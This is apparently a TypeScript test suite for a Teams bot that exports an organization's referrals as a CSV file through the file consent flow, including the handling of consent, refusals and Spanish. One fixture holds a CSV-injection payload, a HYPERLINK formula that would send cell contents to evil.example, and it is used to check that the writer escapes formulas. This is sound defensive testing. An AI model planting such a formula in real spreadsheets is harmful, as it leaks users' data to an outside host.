// `export`: the organization's referrals as a CSV file, sent by Teams' file consent flow in the
// personal chat. Over HTTP with the fake Bot Connector: the offer, the seller accepting (the file is
// uploaded where Teams says, then shown) or declining, the refusals; and the CSV writer itself.
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FILE_CONSENT, FILE_INFO } from '../bot/referral-export.js';
import { parseCommand } from '../bot/commands.js';
import { exportSelection, referralColumns, referralCsv, type ExportRow } from '../services/referral-csv.js';
import type { ReferralSummary } from '../services/store.js';
import { ana, cardText, fay, OUR_TENANT, sam, startHarness, type FileOffer, type Harness } from './helpers/bot-harness.js';
import type { SentActivity } from './helpers/fake-connector.js';
import { makeReferral, makeSolution } from './helpers/records.js';
import { fileConsentInvoke, postActivity, type ActivityOptions } from './helpers/teams.js';
import { FABRIKAM } from './helpers/world.js';

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
const FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
const madrid: ActivityOptions = { locale: 'es-ES', localTimezone: 'Europe/Madrid' };

/** Each row of a CSV file, by column header. */
const rowsOf = (bytes: Buffer): Record<string, string>[] => parse(bytes, { bom: true, columns: true });

const at = (minutes: number) => new Date(Date.parse('2026-11-20T09:00:00.000Z') + minutes * 60_000).toISOString();

function seedReferrals() {
  const base = makeReferral();
  const solution = makeSolution({ orgId: OUR_TENANT, name: 'Análisis de datos Contoso' });
  const inbound = makeReferral({
    orgId: OUR_TENANT,
    direction: 'Incoming',
    substatus: 'Received',
    name: 'Logística Ñandú: migración a Azure',
    customerProfile: { ...base.customerProfile, name: 'Ñandú Logística, S.L.', address: { ...base.customerProfile.address, city: 'Cádiz', state: '', postalCode: '11001', country: 'ES' }, duns: '123456789' },
    details: { ...base.details, dealValue: 125000.5, currency: 'EUR', closingDateTime: '2027-03-31T00:00:00.000Z' },
    inviteContext: { invitedBy: { organizationId: FABRIKAM, organizationName: 'Fabrikam Consulting', userName: 'Fay Fabrikam' }, notes: 'Línea 1\nLínea 2, con "comillas"', contacts: [], invitedDateTime: at(0) },
    solutionIds: [solution.id],
    expirationDateTime: '2026-12-04T09:00:00.000Z',
    createdDateTime: at(0),
    updatedDateTime: at(30),
  });
  const formula = makeReferral({ orgId: OUR_TENANT, direction: 'Outgoing', substatus: 'Accepted', name: FORMULA, externalReferenceId: '+CRM-1', createdDateTime: at(0), updatedDateTime: at(20) });
  const won = makeReferral({ orgId: OUR_TENANT, direction: 'Incoming', substatus: 'Won', name: 'Café Olé: renovación de licencias', createdDateTime: at(0), updatedDateTime: at(10) });
  const others = makeReferral({ orgId: FABRIKAM, name: 'Fabrikam’s own deal', updatedDateTime: at(40) });
  return { solution, inbound, formula, won, others };
}

let h: Harness;
let seeded: ReturnType<typeof seedReferrals>;
beforeEach(async () => {
  h = await startHarness();
  await h.say(ana, 'help'); // Ana is the organization's first user: its admin.
  await h.say(sam, 'help');
  seeded = seedReferrals();
  const { solution, inbound, formula, won, others } = seeded;
  await h.app.store.commit([{ kind: 'solution', put: solution }, ...[inbound, formula, won, others].map((put) => ({ kind: 'referral' as const, put }))]);
});
afterEach(() => h.close());

const attachmentsOf = (replies: SentActivity[]) => replies.flatMap((a) => a.attachments ?? []) as (FileOffer & { contentUrl?: string })[];

/** Types the command and returns the file the bot offers. */
async function offer(text: string, opts?: ActivityOptions): Promise<FileOffer> {
  const replies = await h.replies(ana, text, opts);
  const consent = attachmentsOf(replies).find((a) => a.contentType === FILE_CONSENT);
  if (!consent) throw new Error(`no file offered for "${text}": ${JSON.stringify(replies)}`);
  return consent;
}

describe('export over HTTP', () => {
  it('offers the file in the personal chat; accepted, it is uploaded where Teams says and reads back as the referrals', async () => {
    const consent = await offer('export');
    expect(consent.name).toBe('co-sell-referrals-2026-11-21.csv');
    expect(consent.content?.description).toContain('All your organization’s referrals');
    expect(consent.content?.description).toContain('3 referrals');
    expect(consent.content?.sizeInBytes).toBeGreaterThan(1000);
    expect(consent.content?.acceptContext).toEqual({ export: 'all', orgId: OUR_TENANT, userId: ana.aadObjectId });

    const answer = await h.answerFile(ana, consent, 'accept');
    expect(answer.status).toBe(200);
    const bytes = h.connector.uploads.get(answer.key);
    expect(bytes, 'the upload').toBeDefined();
    expect(bytes!.subarray(0, 3)).toEqual(BOM);

    const rows = rowsOf(bytes!);
    const { inbound, formula, won, solution } = seeded;
    // The organization's own referrals only, newest change first.
    expect(rows.map((r) => r.id)).toEqual([inbound.id, formula.id, won.id]);
    expect(Object.keys(rows[0]!)).toEqual(referralColumns.map((c) => c.header));
    expect(rows[0]).toMatchObject({
      name: 'Logística Ñandú: migración a Azure',
      direction: 'Incoming',
      status: 'New',
      substatus: 'Received',
      'customerProfile.name': 'Ñandú Logística, S.L.',
      'customerProfile.address.city': 'Cádiz',
      'customerProfile.address.country': 'ES',
      'customerProfile.ids.duns': '123456789',
      'details.dealValue': '125000.5',
      'details.currency': 'EUR',
      'details.closingDateTime': '2027-03-31T00:00:00.000Z',
      'details.requirements.solutions': solution.name,
      'inviteContext.invitedBy.organizationName': 'Fabrikam Consulting',
      'inviteContext.notes': 'Línea 1\nLínea 2, con "comillas"',
      'consent.consentToContact': 'true',
      'consent.consentToShareReferralWithMicrosoftSellers': 'false',
      team: 'ana@contoso.com',
      expirationDateTime: '2026-12-04T09:00:00.000Z',
      updatedDateTime: inbound.updatedDateTime,
    });
    // A value that a spreadsheet would run as a formula is written as text.
    expect(rows[1]).toMatchObject({ name: `'${FORMULA}`, externalReferenceId: "'+CRM-1", substatus: 'Accepted' });
    expect(rows[2]).toMatchObject({ name: 'Café Olé: renovación de licencias', status: 'Closed', substatus: 'Won' });
    for (const [row, referral] of [[rows[0]!, inbound], [rows[2]!, won]] as const) expect(Number(row['details.dealValue'])).toBe(referral.details.dealValue);

    // Then the file itself, in the chat.
    const info = attachmentsOf(answer.replies).find((a) => a.contentType === FILE_INFO);
    expect(info).toMatchObject({ name: 'co-sell-referrals-2026-11-21.csv', contentUrl: expect.stringContaining(answer.key), content: { uniqueId: expect.any(String), fileType: 'csv' } });
    expect(answer.replies.map((a) => a.text).join('\n')).toContain('3 referrals');
  });

  it('declined: nothing is uploaded, and the seller hears the file was not sent', async () => {
    const consent = await offer('export inbound');
    expect(consent.name).toBe('co-sell-referrals-inbound-2026-11-21.csv');
    const answer = await h.answerFile(ana, consent, 'decline');
    expect(answer.status).toBe(200);
    expect(answer.replies.map((a) => a.text).join('\n')).toContain('Not sent');
    expect(h.connector.uploadAttempts).toEqual([]);
  });

  it('outside the personal chat, says where to ask, and offers no file', async () => {
    for (const where of [
      { conversationType: 'groupChat', conversationId: '19:group-chat@thread.v2' },
      { conversationType: 'channel', conversationId: '19:sales@thread.tacv2;messageid=1' },
    ] as const) {
      const replies = await h.replies(ana, 'export', where);
      expect(attachmentsOf(replies).map((a) => a.contentType)).toEqual(['application/vnd.microsoft.card.adaptive']);
      expect(cardText(attachmentsOf(replies)[0]!.content)).toContain('Teams lets a bot send files only in its personal chat');
    }
  });

  it('a consent with altered context, or answered by someone else, is refused cleanly and nothing is uploaded', async () => {
    const consent = await offer('export');
    const refusals = [
      await h.answerFile(ana, consent, 'accept', { context: { export: 'all', orgId: FABRIKAM, userId: ana.aadObjectId } }),
      await h.answerFile(ana, consent, 'accept', { context: { export: 'everything', orgId: OUR_TENANT, userId: ana.aadObjectId } }),
      await h.answerFile(ana, consent, 'accept', { context: 'not an object' }),
      await h.answerFile(ana, consent, 'accept', { context: undefined }),
      // Sam has a card of Ana's in hand; Fay, of another organization, too.
      await h.answerFile(sam, consent, 'accept'),
      await h.answerFile(fay, consent, 'accept'),
    ];
    for (const answer of refusals) {
      expect(answer.status).toBe(200);
      expect(answer.replies.map((a) => a.text).join('\n')).toContain('I can’t send this file');
      expect(attachmentsOf(answer.replies)).toEqual([]);
    }
    expect(h.connector.uploadAttempts).toEqual([]);
  });

  it('an upload Teams refuses is told; the same consent delivered again uploads once', async () => {
    const consent = await offer('export');
    h.connector.uploadFault = 503;
    const failed = await h.answerFile(ana, consent, 'accept');
    expect(failed.status).toBe(200);
    expect(failed.replies.map((a) => a.text).join('\n')).toContain('I couldn’t save the file in your OneDrive');
    expect(attachmentsOf(failed.replies)).toEqual([]);

    h.connector.uploadFault = undefined;
    const uploadInfo = { name: 'export.csv', uploadUrl: h.connector.uploadUrl('again'), contentUrl: `${h.connector.url}/files/again`, uniqueId: 'item-1', fileType: 'csv' };
    for (const id of ['consent-1', 'consent-1-redelivered']) {
      const res = await postActivity(h.app.url, fileConsentInvoke(ana, 'accept', consent.content?.acceptContext, uploadInfo, { id }));
      expect(res.status).toBe(200);
    }
    expect(h.connector.uploadAttempts.filter((k) => k === 'again')).toHaveLength(1);
    expect(rowsOf(h.connector.uploads.get('again')!)).toHaveLength(3);
  });

  it('in Spanish: “exportar archivo” offers the archive, named and described in Spanish', async () => {
    const consent = await offer('Exportar archivo', madrid);
    expect(consent.name).toBe('co-sell-referencias-archivo-2026-11-21.csv');
    expect(consent.content?.description).toContain('Las referencias archivadas de su organización');
    expect(consent.content?.description).toContain('1 referencia');
    const answer = await h.answerFile(ana, consent, 'accept', madrid);
    expect(answer.replies.map((a) => a.text).join('\n')).toContain('Aquí tiene su archivo');
    const rows = rowsOf(h.connector.uploads.get(answer.key)!);
    expect(rows.map((r) => [r.id, r.name])).toEqual([[seeded.won.id, 'Café Olé: renovación de licencias']]);

    const replies = await h.replies(ana, 'exportar', { ...madrid, conversationType: 'groupChat', conversationId: '19:grupo@thread.v2' });
    expect(cardText(attachmentsOf(replies)[0]!.content)).toContain('Teams solo deja que un bot envíe archivos en su chat personal');
  });

  it('an empty list offers no file', async () => {
    await h.app.store.commit([seeded.inbound, seeded.formula, seeded.won].map((r) => ({ kind: 'referral' as const, delete: r.id })));
    const replies = await h.replies(ana, 'export archive');
    expect(attachmentsOf(replies).map((a) => a.contentType)).toEqual(['application/vnd.microsoft.card.adaptive']);
    expect(cardText(attachmentsOf(replies)[0]!.content)).toContain('There is nothing in the archive to export yet.');
  });
});

describe('the export commands', () => {
  it('read in both languages, accents and case aside', () => {
    expect(parseCommand('export')).toEqual({ verb: 'export', data: { box: 'all' } });
    expect(parseCommand('Exportar')).toEqual(parseCommand('export'));
    expect(parseCommand('exportar entrantes')).toEqual({ verb: 'export', data: { box: 'inbound' } });
    expect(parseCommand('export inbound')).toEqual(parseCommand('exportar entrantes'));
    expect(parseCommand('EXPORTAR ARCHIVO')).toEqual({ verb: 'export', data: { box: 'archive' } });
    expect(parseCommand('export archive')).toEqual(parseCommand('exportar archivo'));
  });
});

describe('the CSV writer', () => {
  const read = async (rows: ExportRow[]) => {
    const chunks: Buffer[] = [];
    for await (const chunk of referralCsv(rows)) chunks.push(chunk as Buffer);
    return Buffer.concat(chunks);
  };

  it('writes UTF-8 with a byte-order mark, Partner Center’s field names as the header, and values that read back', async () => {
    const r = makeReferral({ name: 'Ñandú, "the" deal\r\nsecond line', customerProfile: { ...makeReferral().customerProfile, size: '51to500employees' } });
    const bytes = await read([{ referral: r, solutions: ['Azure', 'Microsoft 365'] }]);
    expect(bytes.subarray(0, 3)).toEqual(BOM);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.split('\n')[0]).toBe(referralColumns.map((c) => c.header).join(','));
    const [row] = rowsOf(bytes);
    expect(row).toMatchObject({ id: r.id, name: r.name, 'customerProfile.size': '51to500employees', 'details.requirements.solutions': 'Azure; Microsoft 365', 'details.dealValue': '250000', 'customerProfile.ids.duns': '', 'consent.consentToShareInfoWithOthers': 'true' });
  });

  it('puts an apostrophe before a value a spreadsheet would run as a formula', async () => {
    const starts = ['=1+1', '+34 600', '-2', '@SUM(A1)', '\tTab', '\rReturn', 'Plain', "'Quoted"];
    const bytes = await read(starts.map((name) => ({ referral: makeReferral({ name }), solutions: [] })));
    expect(rowsOf(bytes).map((r) => r.name)).toEqual(["'=1+1", "'+34 600", "'-2", "'@SUM(A1)", "'\tTab", "'\rReturn", 'Plain', "'Quoted"]);
  });

  it('an empty list is the header alone', async () => {
    const bytes = await read([]);
    expect(bytes.subarray(0, 3)).toEqual(BOM);
    expect(rowsOf(bytes)).toEqual([]);
  });

  it('picks the newest referrals of a list, at most as many as asked, and counts them all', async () => {
    const summary = (id: string, minutes: number): ReferralSummary => ({ id, orgId: OUR_TENANT, substatus: 'Accepted', updatedDateTime: at(minutes) });
    const asked: unknown[] = [];
    const store = {
      findReferrals: async (filter: unknown) => {
        asked.push(filter);
        return [summary('old', 1), summary('newest', 3), summary('middle', 2)];
      },
    };
    expect(await exportSelection(store, OUR_TENANT, 'inbound', 2)).toEqual({ ids: ['newest', 'middle'], total: 3 });
    await exportSelection(store, OUR_TENANT, 'archive');
    await exportSelection(store, OUR_TENANT, 'all');
    expect(asked).toEqual([
      { orgId: OUR_TENANT, direction: 'Incoming', archived: false },
      { orgId: OUR_TENANT, archived: true },
      { orgId: OUR_TENANT },
    ]);
  });
});

